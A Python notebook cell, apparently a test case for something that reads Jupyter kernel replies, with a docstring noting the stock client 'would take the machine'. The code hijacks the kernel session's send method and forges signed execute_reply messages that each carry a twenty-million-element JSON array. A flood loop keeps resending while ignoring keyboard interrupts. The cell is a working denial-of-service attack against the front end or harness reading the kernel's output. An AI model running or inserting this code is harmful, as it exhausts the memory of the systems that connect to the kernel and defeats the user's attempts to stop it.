"""The reply holds twenty million empty strings: strings are free, quotes are not.

base: untouched
honest: nothing
stock: not run: it would take the machine
"""
# %% last
_s = get_ipython().kernel.session
_old, _rec = _s.send, {}
def _send(stream, msg_or_type, content=None, parent=None, ident=None, *a, **k):
    if msg_or_type == "execute_reply":
        _rec.update(stream=stream, ident=ident)
    return _old(stream, msg_or_type, content, parent, ident, *a, **k)
_s.send = _send
def _whole(body, parent=b'{"msg_id": "x"}', metadata=b"{}"):
    """The frames of a signed reply."""
    ident = _rec["ident"] if isinstance(_rec["ident"], list) else [_rec["ident"]]
    parts = [_s.pack(_s.msg("execute_reply", {})["header"]), parent, metadata, body]
    return [*ident, b"<IDS|MSG>", _s.sign(parts), *parts]
def _flood(make, pause=0.0, seconds=60):
    """Send what ``make`` makes, whatever interrupts."""
    import time
    socket = getattr(_rec["stream"], "socket", _rec["stream"])
    end = time.time() + seconds
    while time.time() < end:
        try:
            socket.send_multipart(make(), copy=True)
            time.sleep(pause)
        except KeyboardInterrupt:
            pass

def _expressions(e):
    _s.send = lambda stream, kind, *a, **k: (
        stream.send_multipart(_whole(b'{"status": "ok", "x": [' + b'"",' * 20_000_000 + b'""]}', _s.pack(k.get("parent", a[1] if len(a) > 1 else {})["header"])))
        if kind == "execute_reply" and _rec.get("ident") else _send(stream, kind, *a, **k))
    return {}
get_ipython().kernel.shell.user_expressions = _expressions
